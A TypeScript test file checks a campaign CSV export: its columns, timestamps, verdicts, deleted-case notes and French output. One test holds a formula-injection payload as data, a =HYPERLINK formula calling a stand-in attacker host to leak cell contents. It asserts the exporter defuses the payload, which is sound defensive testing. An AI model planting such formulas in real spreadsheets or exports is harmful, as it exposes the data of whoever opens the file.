// The campaign's CSV for the data desk: stable columns, one row per brand, times with their offset and
// in hours, the evidence of each figure, deleted cases said, and captured text that never runs as a formula.
import { beforeAll, describe, expect, it } from "vitest";
import { compareCampaign } from "../../../src/domain/campaigns/comparison-summary";
import { campaignEvidence } from "../../../src/export/campaign-bundle";
import { CAMPAIGN_CSV_COLUMNS, renderCampaignCsv } from "../../../src/export/campaign-csv";
import { campaignExport, CREATED, HOSTILE_NAME, type CampaignExportFixture } from "./campaign-fixtures";
import { HOUR, T0 } from "../domain/campaigns/comparison-fixtures";

/** RFC 4180, as a spreadsheet reads it: quoted fields may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === "") quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  if (cell !== "" || row.length) rows.push([...row, cell]);
  return rows;
}

let fixture: CampaignExportFixture;
let records: Array<Record<string, string>>;
let csv: string;
beforeAll(async () => {
  fixture = await campaignExport();
  const rows = compareCampaign({ campaign: fixture.campaign, cases: campaignEvidence(fixture.campaign, fixture.cases), now: CREATED.at }).rows;
  csv = renderCampaignCsv(fixture.campaign, rows, "en");
  const [header, ...body] = parseCsv(csv.replace(/^\uFEFF/, ""));
  records = body.map((cells) => Object.fromEntries((header ?? []).map((h, i) => [h, cells[i] ?? ""])));
});

const recordOf = (brand: string) => {
  const found = records.find((r) => r.brand === brand);
  if (!found) throw new Error(`no row for ${brand}`);
  return found;
};

describe("the campaign CSV", () => {
  it("starts with a byte-order mark and the documented columns, and has one CRLF-ended row per brand", () => {
    expect(csv.startsWith(`\uFEFF${CAMPAIGN_CSV_COLUMNS.join(",")}\r\n`)).toBe(true);
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(records.map((r) => r.brand)).toEqual(["Prompt Telecom", "Slow Telecom", "Mute Telecom", "Hostile Mobile", "Gone Fibre"]);
  });

  it("gives kept, broken and silent with times in ISO 8601 with offset and in hours, and each figure's events", () => {
    const prompt = recordOf("Prompt Telecom");
    expect(prompt).toMatchObject({
      verdict: "kept",
      first_contact_at: "2025-03-03T10:00:00.000+01:00",
      first_contact_channel: "web-form",
      first_response_at: "2025-03-04T05:00:00.000+01:00",
      first_response_hours: "19.00",
      first_response_how: "response",
      due_at: "2025-03-05T10:00:00.000+01:00",
      promise_source: "campaign",
      promise_reading: "a reply within 48 hours, counted from each contact attempt",
      attempts: "1",
      follow_ups: "0",
      interlocutors: "1",
      interlocutor_names: "Claire Martin",
      protocol_version: "1",
      added_after_start: "false",
      case_deleted: "false",
      dossier: "cases/prompt-telecom/dossier.html",
    });
    expect(prompt.verdict_evidence).toBe([fixture.ids.prompt!.promise, fixture.ids.prompt!.attempt, fixture.ids.prompt!.response].join(" "));
    expect(recordOf("Slow Telecom")).toMatchObject({ verdict: "broken", late_hours: (((T0 + 5 * 24 * HOUR + HOUR) - (T0 + 49 * HOUR)) / HOUR).toFixed(2), follow_ups: "1", follow_ups_evidence: fixture.ids.slow!.followUp });
    expect(recordOf("Mute Telecom")).toMatchObject({ verdict: "silent", first_response_at: "", first_response_hours: "" });
  });

  it("marks the brand added mid-campaign and its protocol version", () => {
    const hostile = recordOf("Hostile Mobile");
    expect(hostile).toMatchObject({ added_after_start: "true", protocol_version: "2", promise_text: "We reply within 24 hours." });
    expect(hostile.notes).toContain("added after the start, on");
  });

  it("keeps the deleted brand's row and says its case was deleted", () => {
    const gone = recordOf("Gone Fibre");
    expect(gone).toMatchObject({ case_deleted: "true", case_deleted_at: "2025-03-08T09:00:00.000+01:00", verdict: "", attempts: "", dossier: "" });
    expect(gone.notes).toBe("case deleted on 8 March 2025 at 09:00 (Europe/Paris)");
  });

  it("never lets captured text run as a formula: the agent's =HYPERLINK( is defused", () => {
    const hostile = recordOf("Hostile Mobile");
    // The e-mail's sender name (quotes dropped, as the engine reads names) and the chat agent's name.
    expect(hostile.interlocutor_names).toBe(`'=HYPERLINK(http://evil.example/?&A1,click); ${HOSTILE_NAME}`);
    for (const record of records) for (const value of Object.values(record)) expect(value, value).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it("writes the same columns in French, with the notes in French", async () => {
    const rows = compareCampaign({ campaign: fixture.campaign, cases: campaignEvidence(fixture.campaign, fixture.cases), now: CREATED.at }).rows;
    const fr = renderCampaignCsv(fixture.campaign, rows, "fr");
    expect(fr.startsWith(`\uFEFF${CAMPAIGN_CSV_COLUMNS.join(",")}\r\n`)).toBe(true);
    expect(fr).toContain("dossier supprimé le 8 mars 2025 à 09:00 (Europe/Paris)");
    expect(fr).toContain("une réponse sous 48 heures");
  });
});
